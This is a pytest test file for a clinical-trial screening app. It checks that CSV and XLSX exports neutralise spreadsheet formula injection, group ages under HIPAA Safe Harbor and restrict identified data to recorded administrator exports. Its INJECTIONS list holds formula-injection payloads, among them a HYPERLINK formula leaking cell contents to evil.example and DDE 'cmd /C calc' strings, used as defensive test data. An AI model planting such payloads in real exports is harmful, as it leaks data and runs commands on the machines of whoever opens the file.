"""Exports that are safe to open and safe to share: no cell a spreadsheet evaluates, whatever was typed; HIPAA Safe
Harbor in the de-identified data set; the limited and identified data sets for administrators only, recorded."""

import csv
import io
from datetime import date

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import make_user
from review import exports
from screening.models import DataExport
from trials import roles
from trials.services import criteria_version_create_amendment

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open chart")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MRN_INJECTION = '=HYPERLINK("//e.x/?"&A1,"MRN")'  # 30 characters, as long as a record number may be
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(client, **params):
    response = client.get(reverse("review:log_export_csv"), params)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_workbook(client, **params):
    response = client.get(reverse("review:log_export_xlsx"), params)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def assert_no_cell_is_a_formula_or_starts_like_one(cells):
    for value in cells:
        assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), repr(value)


@pytest.fixture
def hostile(screening_for, django_user_model, active_version, coordinator, publish):
    """A screening whose every user-typed text that reaches an export is a formula: the candidate's record number,
    the coordinator's username and the criteria version's label (an amendment published under that label)."""
    publish(criteria_version_create_amendment(source=active_version, label=INJECTIONS[0]))
    typist = make_user(django_user_model, "=cmd|' /C calc'!A0", roles.COORDINATOR)
    screening = screening_for(mrn=MRN_INJECTION, user=typist)
    return screening


@pytest.mark.parametrize("data_set", [{}, {"limited": "1"}, {"identified": "1"}])
def test_no_csv_cell_starts_like_a_formula(client_for, administrator, hostile, data_set):
    rows = csv_rows(client_for(administrator), **data_set)
    assert len(rows) == 2
    assert_no_cell_is_a_formula_or_starts_like_one(value for row in rows for value in row)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["criteria_version"] == "'" + INJECTIONS[0]  # kept, readable, inert
    assert record["coordinator"] == "'=cmd|' /C calc'!A0"
    if data_set == {"identified": "1"}:
        assert record["mrn"] == "'" + MRN_INJECTION


@pytest.mark.parametrize("data_set", [{}, {"limited": "1"}, {"identified": "1"}])
def test_no_xlsx_cell_is_a_formula(client_for, administrator, hostile, data_set):
    sheet = xlsx_workbook(client_for(administrator), **data_set).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 2 * sheet.max_column
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    assert_no_cell_is_a_formula_or_starts_like_one(cell.value for cell in cells)
    header = [cell.value for cell in next(sheet.iter_rows())]
    if data_set == {"identified": "1"}:
        assert sheet.cell(row=2, column=header.index("mrn") + 1).value == "'" + MRN_INJECTION


@pytest.mark.parametrize("payload", INJECTIONS)
def test_each_formula_start_is_neutralised(payload):
    assert exports.neutralised(payload) == "'" + payload


@pytest.mark.parametrize("harmless", ["SCR-0001", "phase1", "Kevin", "", " =1", "1-2", "'quoted"])
def test_text_that_does_not_start_like_a_formula_is_left_alone(harmless):
    assert exports.neutralised(harmless) == harmless


@given(st.text())
@settings(max_examples=300)
def test_no_text_comes_out_starting_like_a_formula(text):
    out = exports.neutralised(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (text, "'" + text)


def test_numbers_stay_numbers(client_for, administrator, screening_for):
    screening_for()
    sheet = xlsx_workbook(client_for(administrator)).active
    header = [cell.value for cell in next(sheet.iter_rows())]
    age = sheet.cell(row=2, column=header.index("age_years") + 1)
    assert age.data_type == "n"


# --- Safe Harbor -------------------------------------------------------------------------------------------------

SCREENED_ON = date(2026, 6, 15)
AGES = {
    "89, a day short of 90": date(1936, 6, 16),
    "90 on the day": date(1936, 6, 15),
    "91": date(1935, 1, 1),
    "89 on the day": date(1937, 6, 15),
}


@pytest.fixture
def by_age(screening_for):
    return {
        label: screening_for(birth_date=born, screening_date=SCREENED_ON, initials="QX") for label, born in AGES.items()
    }


def exported_ages(rows):
    header = rows[0]
    number, age = header.index("screening_number"), header.index("age_years")
    return {row[number]: row[age] for row in rows[1:]}


def test_ages_of_90_and_over_are_one_group_in_the_deidentified_export(client_for, investigator, by_age):
    ages = exported_ages(csv_rows(client_for(investigator)))
    assert ages[by_age["89 on the day"].number] == "89"
    assert ages[by_age["89, a day short of 90"].number] == "89"
    assert ages[by_age["90 on the day"].number] == "90+"
    assert ages[by_age["91"].number] == "90+"


def test_the_xlsx_groups_the_same_ages(client_for, investigator, by_age):
    sheet = xlsx_workbook(client_for(investigator)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    ages = exported_ages(rows)
    assert ages[by_age["89, a day short of 90"].number] == 89
    assert ages[by_age["90 on the day"].number] == "90+"


def test_the_deidentified_export_has_no_date_element_finer_than_the_year(client_for, investigator, by_age):
    rows = csv_rows(client_for(investigator))
    text = "\n".join(",".join(row) for row in rows)
    header = rows[0]
    assert "screening_year" in header
    assert "signed_year" in header
    assert not [name for name in header if name.endswith(("_month", "_date", "_at"))]
    assert {row[header.index("screening_year")] for row in rows[1:]} == {"2026"}
    for finer in ("2026-06", "06/15", "2026-06-15", "1936", "1935", "QX"):
        assert finer not in text


def test_the_limited_data_set_has_months_and_exact_ages_and_no_identifiers(client_for, administrator, by_age):
    rows = csv_rows(client_for(administrator), limited="1")
    header = rows[0]
    assert "screening_month" in header
    assert {row[header.index("screening_month")] for row in rows[1:]} == {"2026-06"}
    ages = exported_ages(rows)
    assert ages[by_age["90 on the day"].number] == "90"
    assert ages[by_age["91"].number] == "91"
    text = "\n".join(",".join(row) for row in rows)
    for identifier in ("QX", "1936-06-15", "2026-06-15", "mrn", "initials"):
        assert identifier not in text


@pytest.mark.parametrize("data_set", ["limited", "identified"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_limited_and_identified_data_sets_are_for_administrators_only_and_recorded(
    client_for, investigator, administrator, by_age, data_set, file_format
):
    url = reverse(f"review:log_export_{file_format}")
    assert client_for(investigator).get(url, {data_set: "1"}).status_code == 403
    assert not DataExport.objects.exists()

    response = client_for(administrator).get(url, {data_set: "1", "cohort": "phase1"})
    assert response.status_code == 200
    assert f"screen-fail-log-{data_set}-" in response["Content-Disposition"]
    export = DataExport.objects.get()
    assert (export.exported_by, export.data_set, export.file_format) == (administrator, data_set, file_format)
    assert export.filters == {"cohort": "phase1"}

    page = client_for(administrator).get(reverse("review:identified_exports")).content.decode()
    assert export.get_data_set_display() in page
    assert "cohort: phase1" in page
    assert administrator.get_full_name() in page or administrator.get_username() in page


def test_the_deidentified_export_is_not_recorded_as_one_that_identifies(client_for, administrator, by_age):
    csv_rows(client_for(administrator))
    assert not DataExport.objects.exists()


def test_a_new_role_with_the_log_still_gets_only_the_deidentified_set(client_for, django_user_model, by_age):
    """The data set follows the permission, not the role's name: a role given the log reads Safe Harbor only."""
    monitor = make_user(django_user_model, "monitor")
    monitor.groups.add(Group.objects.get(name=roles.INVESTIGATOR))
    client = client_for(monitor)
    assert client.get(reverse("review:log_export_csv"), {"identified": "1"}).status_code == 403
    header = csv_rows(client)[0]
    assert header == exports.columns(exports.DEIDENTIFIED)


def test_the_xlsx_has_a_frozen_header_filters_readable_widths_and_dates_as_dates(
    client_for, administrator, screening_for
):
    screening_for(initials="AB")
    screening_for(initials="CD")
    sheet = xlsx_workbook(client_for(administrator), identified="1").active
    header = [cell.value for cell in sheet[1]]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}3"
    for number, name in enumerate(header, 1):
        assert sheet.column_dimensions[sheet.cell(1, number).column_letter].width >= len(name)
    birth = sheet.cell(2, header.index("birth_date") + 1)
    assert birth.is_date
    assert birth.value.date().isoformat() == "1971-03-15"
    assert csv_rows(client_for(administrator), identified="1")[1][header.index("birth_date")] == "1971-03-15"
